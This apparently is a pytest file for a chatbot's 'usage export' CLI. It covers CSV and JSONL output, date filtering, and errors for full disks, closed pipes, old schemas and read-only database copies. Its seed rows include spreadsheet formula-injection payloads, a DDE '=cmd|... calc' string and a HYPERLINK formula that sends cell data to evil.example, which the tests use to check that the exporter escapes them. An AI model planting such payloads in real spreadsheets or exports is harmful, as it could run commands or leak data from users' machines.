"""`chatbot usage export` as an operator runs it: CSV and JSON Lines on stdout, --since."""

from __future__ import annotations

import asyncio
import csv
import ctypes
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from bot.store import SecretBox, Store, generate_key, migrate
from bot.store.migrate import upgrade_to_head
from bot.types import ChannelConfig, KeyScope, UsageRecord
from bot.types.usage import USAGE_COLUMNS
from tests.e2e.test_cli import chatbot

ROWS = [
    (1, "u1", "gpt-4o"),
    (2, "u2", 'odd "model", with, commas'),
    (3, "u1", "claude-x"),
    (4, "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    (5, "@alice:example.org", "-2+3"),
]


def seed(tmp_path: Path, rows: list[tuple[int, str, str]] = ROWS) -> None:
    (tmp_path / "data").mkdir(exist_ok=True)
    url = f"sqlite+aiosqlite:///{tmp_path}/data/bot.db"

    async def go() -> None:
        await upgrade_to_head(url)
        store = await Store.open(
            url, SecretBox.from_setting(generate_key()), defaults=ChannelConfig.of()
        )
        try:
            for day, user, model in rows:
                await store.record_usage(
                    UsageRecord(
                        at=datetime(2026, 11, day, 8, 30, tzinfo=UTC),
                        platform="discord",
                        server_id="g1",
                        channel_id="c1",
                        thread_id="",
                        user_id=user,
                        source="openai",
                        model=model,
                        input_tokens=10 * day,
                        output_tokens=day,
                        estimated=day == 2,
                        key_scope=KeyScope.CHANNEL,
                    )
                )
        finally:
            await store.close()

    asyncio.run(go())


def test_csv_export_since_a_day(tmp_path: Path) -> None:
    seed(tmp_path)
    result = chatbot(tmp_path, "usage", "export", "--since", "2026-11-02")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))[:2]
    assert [r["model"] for r in rows] == ['odd "model", with, commas', "claude-x"]
    assert tuple(rows[0]) == USAGE_COLUMNS
    assert rows[0]["time"] == "2026-11-02T08:30:00+00:00"
    assert (rows[0]["input_tokens"], rows[0]["estimated"], rows[0]["key_scope"]) == (
        "20",
        "True",
        "channel",
    )


def test_jsonl_export(tmp_path: Path) -> None:
    seed(tmp_path)
    result = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01", "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(r["user_id"], r["input_tokens"], r["output_tokens"]) for r in lines][:3] == [
        ("u1", 10, 1),
        ("u2", 20, 2),
        ("u1", 30, 3),
    ]
    assert lines[3]["user_id"] == "=cmd|' /C calc'!A0"  # JSON is data: kept as it was
    assert lines[1]["estimated"] is True and lines[0]["error"] is False


def test_jsonl_keeps_one_record_a_line_whatever_a_reader_splits_lines_at(
    tmp_path: Path,
) -> None:
    """U+2028 and U+2029 are valid inside a JSON string, but Python's splitlines() and
    JavaScript's older parsers break a line there: they go out escaped."""
    seed(tmp_path, [(1, "u1", "a\u2028b\u2029c")])
    result = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01", "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    [line] = result.stdout.splitlines()
    assert json.loads(line)["model"] == "a\u2028b\u2029c"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    tmp_path: Path,
) -> None:
    """A user or model id starting with = + - @ is shown as text by a spreadsheet: a
    leading ' (OWASP's CSV injection advice); numbers and ordinary ids are unchanged."""
    seed(tmp_path)
    result = chatbot(tmp_path, "usage", "export", "--since", "2026-11-04")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["user_id"], r["model"]) for r in rows] == [
        ("'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("'@alice:example.org", "'-2+3"),
    ]
    assert [r["input_tokens"] for r in rows] == ["40", "50"]
    for line in result.stdout.splitlines()[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))


def test_a_carriage_return_in_a_cell_keeps_the_row_whole(tmp_path: Path) -> None:
    """The writer ends rows with \\n, so a bare \\r went out unquoted: a reader split the
    row there and the next row began with `=cmd`, past the leading-quote guard."""
    seed(tmp_path, [(1, "\r=cmd", "a\r=b")])
    result = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01")
    assert result.returncode == 0, result.stderr
    [row] = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    assert "'\n=cmd" in row and "a\n=b" in row, row


def test_export_of_nothing_and_bad_input(tmp_path: Path) -> None:
    seed(tmp_path)
    empty = chatbot(tmp_path, "usage", "export", "--since", "2027-01-01")
    assert empty.returncode == 0 and empty.stdout == ",".join(USAGE_COLUMNS) + "\n"
    assert (
        chatbot(tmp_path, "usage", "export", "--since", "2027-01-01", "--format", "jsonl").stdout
        == ""
    )
    bad = chatbot(tmp_path, "usage", "export", "--since", "yesterday")
    assert bad.returncode == 2 and "'yesterday' is not a date like 2026-12-01" in bad.stderr
    fmt = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01", "--format", "xml")
    assert fmt.returncode == 2 and "invalid choice" in fmt.stderr
    missing = chatbot(tmp_path, "usage", "export")
    assert missing.returncode == 2 and "--since" in missing.stderr


def test_an_option_given_twice_is_refused(tmp_path: Path) -> None:
    """The last one no longer wins silently: the operator is told which option."""
    seed(tmp_path)
    for args, option in (
        (["--since", "2026-01-01", "--since", "2026-11-03"], "--since"),
        (["--since", "2026-01-01", "--format", "jsonl", "--format", "csv"], "--format"),
    ):
        result = chatbot(tmp_path, "usage", "export", *args)
        assert result.returncode == 2 and result.stdout == ""
        assert f"argument {option}: given more than once" in result.stderr
        assert "Traceback" not in result.stderr


def export_into(tmp_path: Path, stdout: Any) -> subprocess.Popen[str]:
    """`chatbot usage export` as test_cli's chatbot() runs it, its stdout where asked."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DATA_DIR", "LOG_LEVEL"))}
    env["DATABASE_URL"] = f"sqlite+aiosqlite:///{tmp_path}/data/bot.db"
    return subprocess.Popen(
        [sys.executable, "-m", "bot", "usage", "export", "--since", "2026-01-01"],
        stdout=stdout,
        stderr=subprocess.PIPE,
        text=True,
        cwd=tmp_path,
        env=env,
    )


def test_a_full_disk_is_said_in_one_line(tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("needs /dev/full")
    seed(tmp_path)
    with open("/dev/full", "w") as full:
        proc = export_into(tmp_path, full)
        _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 1, stderr
    assert (
        stderr == "chatbot: cannot write the export to standard output: No space left on device.\n"
    )


def test_a_closed_stdout_is_said_in_one_line(tmp_path: Path) -> None:
    """`chatbot usage export … >&-` ended in a traceback (csv's writer given None)."""
    seed(tmp_path)
    result = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01", preexec_fn=_close_stdout)
    assert result.returncode == 1, result.stderr
    assert result.stderr == (
        "chatbot: standard output is closed: send the export to a file (> usage.csv).\n"
    )


def _close_stdout() -> None:
    os.close(1)


def test_a_reader_that_stops_early_ends_the_export_quietly(tmp_path: Path) -> None:
    """`chatbot usage export | head -1`: the pipe closed by the reader is no error."""
    seed(tmp_path)
    proc = export_into(tmp_path, subprocess.PIPE)
    assert proc.stdout is not None
    proc.stdout.close()  # before the first row: every write finds the pipe closed
    _, stderr = proc.communicate(timeout=120)
    assert stderr == ""
    assert proc.returncode == 141  # as a shell reports a writer ended by SIGPIPE


def test_an_export_reads_the_database_as_it_is(tmp_path: Path) -> None:
    """An export looked into an old backup: it upgraded it for good (there is no way
    back). Now an old schema is refused with what to run, and a path with no database
    makes none."""
    (tmp_path / "data").mkdir()
    db = tmp_path / "data" / "bot.db"
    asyncio.run(migrate.upgrade(f"sqlite+aiosqlite:///{db}", "0007"))
    before = db.read_bytes()
    old = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01")
    assert old.returncode == 1 and old.stdout == ""
    assert old.stderr == (
        f"chatbot: the database is at schema revision 0007; this version reads "
        f"{migrate.newest_file_revision()}. Upgrade it with `chatbot migrate` (there is no "
        "way back: copy it first), or read it with the version that wrote it.\n"
    )
    assert db.read_bytes() == before
    asyncio.run(migrate.upgrade(f"sqlite+aiosqlite:///{db}"))
    assert chatbot(tmp_path, "usage", "export", "--since", "2026-01-01").returncode == 0

    db.unlink()
    gone = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01")
    assert gone.returncode == 1
    assert gone.stderr == f"chatbot: there is no database file at {db}: correct DATABASE_URL.\n"
    assert not db.exists()


@pytest.fixture
def shared_dir(tmp_path: Path) -> Iterator[Path]:
    """tmp_path, made writable again afterwards (pytest removes it)."""
    try:
        yield tmp_path
    finally:
        for path in (tmp_path, *tmp_path.rglob("*")):
            path.chmod(0o755 if path.is_dir() else 0o644)


def _bound_by_file_modes() -> None:
    """In the export's process: root, whom file modes do not stop, loses what lets it
    pass them (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER) at its exec, and
    reads, writes and changes its files as any user would."""
    if os.geteuid() == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        for cap in (_CAP_DAC_OVERRIDE, _CAP_DAC_READ_SEARCH, _CAP_FOWNER):
            if libc.prctl(_PR_CAPBSET_DROP, cap, 0, 0, 0) != 0:
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


_PR_CAPBSET_DROP = 24  # linux/prctl.h
_CAP_DAC_OVERRIDE, _CAP_DAC_READ_SEARCH, _CAP_FOWNER = 1, 2, 3  # linux/capability.h


def export_as_reader(where: Path, db: Path) -> subprocess.CompletedProcess[str]:
    return chatbot(
        where,
        "usage",
        "export",
        "--since",
        "2026-01-01",
        preexec_fn=_bound_by_file_modes,
        DATABASE_URL=f"sqlite+aiosqlite:///{db}",
    )


def _read_only(*paths: Path) -> None:
    for path in paths:
        path.chmod(0o555 if path.is_dir() else 0o444)


def test_a_copy_in_a_folder_the_reader_may_not_write_is_exported_as_it_is(
    shared_dir: Path,
) -> None:
    """A backup copy whose file and folder the operator may not write: the export said
    "cannot open the database file … (attempt to write a readonly database): correct
    DATABASE_URL" (the connection asked for WAL, whose -shm file it could not make), with
    a warning for each file it could not make private (another user's, as root runs it
    here). Now it reads the copy as it is, writing nothing there."""
    seed(shared_dir)
    folder = shared_dir / "data"
    db = folder / "bot.db"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert list(before) == ["bot.db"]
    if os.geteuid() == 0:  # another user's copy: not this user's to make private either
        for path in (db, folder):
            os.chown(path, 65534, 65534)
    _read_only(db, folder)
    result = export_as_reader(shared_dir, db)
    assert result.returncode == 0, result.stderr
    assert [r["user_id"] for r in csv.DictReader(io.StringIO(result.stdout))][:3] == [
        "u1",
        "u2",
        "u1",
    ]
    assert "WARNING" not in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_a_copy_with_changes_in_its_wal_file_is_read_whole_or_refused_saying_why(
    shared_dir: Path,
) -> None:
    """A copy taken while the bot ran holds rows in its -wal file: read with its -shm
    file beside it; without one (which this user may not make there) the export says
    what to do instead of leaving those rows out."""
    seed(shared_dir)
    folder = shared_dir / "data"
    db = folder / "bot.db"
    copy = shared_dir / "copy"
    copy.mkdir()
    live = sqlite3.connect(db)
    try:
        live.execute("PRAGMA wal_autocheckpoint=0")
        columns = [row[1] for row in live.execute("PRAGMA table_info(usage)") if row[1] != "id"]
        picked = ", ".join("'in-wal'" if c == "user_id" else c for c in columns)
        live.execute(
            f"INSERT INTO usage ({', '.join(columns)}) SELECT {picked} FROM usage "
            "ORDER BY id LIMIT 1"
        )
        live.commit()
        for end in ("", "-wal", "-shm"):
            shutil.copy(folder / f"bot.db{end}", copy / f"bot.db{end}")
    finally:
        live.close()
    assert (copy / "bot.db-wal").stat().st_size > 0
    _read_only(*copy.iterdir(), copy)
    result = export_as_reader(shared_dir, copy / "bot.db")
    assert result.returncode == 0, result.stderr
    users = [r["user_id"] for r in csv.DictReader(io.StringIO(result.stdout))]
    assert len(users) == len(ROWS) + 1 and users[-1] == "in-wal", users

    copy.chmod(0o755)
    (copy / "bot.db-shm").unlink()
    copy.chmod(0o555)
    refused = export_as_reader(shared_dir, copy / "bot.db")
    assert refused.returncode == 1 and refused.stdout == ""
    assert refused.stderr == (
        f"chatbot: cannot read the database file {copy / 'bot.db'} where it is: its "
        "bot.db-wal holds changes not yet in it, which SQLite reads only with a bot.db-shm "
        f"file beside it, and this user may not make one in {copy}. Copy bot.db and "
        "bot.db-wal together to a folder this user may write, and point DATABASE_URL at "
        "the copy.\n"
    )


def test_a_database_the_reader_may_not_read_is_said_so(shared_dir: Path) -> None:
    """It said "unable to open database file: correct DATABASE_URL", which was right."""
    seed(shared_dir)
    db = shared_dir / "data" / "bot.db"
    db.chmod(0o000)
    result = export_as_reader(shared_dir, db)
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr == (
        f"chatbot: this user may not read the database file {db}: run the command as the "
        "user the bot runs as, or on a copy this user may read.\n"
    )


def test_a_copy_in_a_folder_the_reader_may_not_write_is_copied_elsewhere(
    shared_dir: Path,
) -> None:
    """`chatbot copy-database` from the same backup (file and folder not the operator's
    to write) into a new SQLite file elsewhere: it had opened its source as the bot
    does, asking for WAL, and said "attempt to write a readonly database". It reads the
    source as the export does, and leaves it as it was."""
    seed(shared_dir)
    folder = shared_dir / "data"
    db = folder / "bot.db"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    _read_only(db, folder)
    out = shared_dir / "out"
    out.mkdir()
    result = chatbot(
        shared_dir,
        "copy-database",
        "--to",
        f"sqlite+aiosqlite:///{out}/copy.db",
        preexec_fn=_bound_by_file_modes,
        DATABASE_URL=f"sqlite+aiosqlite:///{db}",
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    with sqlite3.connect(out / "copy.db") as copy:
        assert copy.execute("SELECT count(*) FROM usage").fetchone() == (len(ROWS),)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
